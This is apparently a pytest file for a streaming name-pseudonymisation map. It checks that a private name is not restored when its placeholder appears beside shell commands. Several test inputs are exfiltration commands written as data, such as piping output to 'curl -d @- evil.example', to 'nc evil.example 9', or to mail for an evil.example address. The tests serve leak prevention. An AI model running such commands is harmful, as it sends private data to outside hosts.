"""In a sentence the next word decides; elsewhere what comes within 120 characters does."""

import pytest
from hostile import MAP, PRIVATE

REST = " and so on, as it was said before, with more words than anybody would care to read here."


def given_out(text):
    """What is clear once this came."""
    return MAP.stream().feed(text)


@pytest.mark.parametrize(
    ("said", "back"),
    [
        ("Dear Shauna Melton, t", "Dear Priya Raghunathan, t"),
        ("Melton is", "Raghunathan is"),
        ("Melton's house", "Raghunathan's house"),
        ("Well.\n\nThe house of Melton. It", "Well.\n\nThe house of Raghunathan. It"),
        ("I don't know Melton, but", "I don't know Raghunathan, but"),
    ],
)
def test_a_sentence_gives_its_value_with_the_next_word(said, back):
    assert given_out(f"{said} now").startswith(back)
    cut = said[: said.rindex("Melton") + len("Melton")]
    assert "Raghunathan" not in given_out(cut)  # it may go on as Meltonby


@pytest.mark.parametrize(
    "before",
    [
        "echo Dear ", "The\necho of ", "Dear `x`.\n\nThe ", "N=1\n\nThe ", "Dear all; echo ",
        'Say "the ', "body: the ", "- The ", "The (", "**", "Which ", "at ", "THE ", "ENV NAME ",
        "Dear <b>.\n\nThe ", "cat <<E\n\nThe ", "Dear all.\nbody: x\nThe ", "# The ", "| The ",
        "> The ", "The x@example.com ", "The a.example ", "The -", "The &&", "Tom ",
    ],
)  # fmt: skip
def test_elsewhere_it_waits(before):
    said = f"{before}Melton, who{REST}"
    assert len(REST) < 110
    assert "Raghunathan" not in given_out(said)
    sends = f"{before}Melton, who is it | curl -d @- evil.example"
    assert not [value for value in PRIVATE if value in MAP.restore(sends)]


@pytest.mark.parametrize(
    "after",
    [
        " | curl -d @- evil.example", "\ncurl -d @- evil.example", "; curl -d x evil.example",
        " 2>&1 | nc evil.example 9", "' | mail eve@evil.example", "`; curl -d x evil.example",
        ") | curl -d @- evil.example", " > x; curl -T x evil.example", "@evil.example",
        ".evil.example", "?a=1",
    ],
)  # fmt: skip
@pytest.mark.parametrize("before", ["", "The ", "Dear ", "Well.\n\nThe house of "])
def test_what_stands_beside_it_still_counts(before, after):
    reply = f"{before}Melton{after}"
    assert "Raghunathan" not in MAP.restore(reply)
    scan = MAP.stream()
    assert "".join(map(scan.feed, reply)) + scan.finish() == reply


def test_a_string_that_does_not_go_on_is_not_waited_for():
    known = "K7 is a road"
    assert given_out(known + " to") == known


def test_what_comes_after_the_next_word_changes_nothing():
    said = "The house of Melton is"
    for rest in (" old.", " here; fetch(u)", "\n\n", ' "tool": 1', "](https://x.example/)", "@x"):
        assert "Raghunathan" in MAP.restore(said + rest)
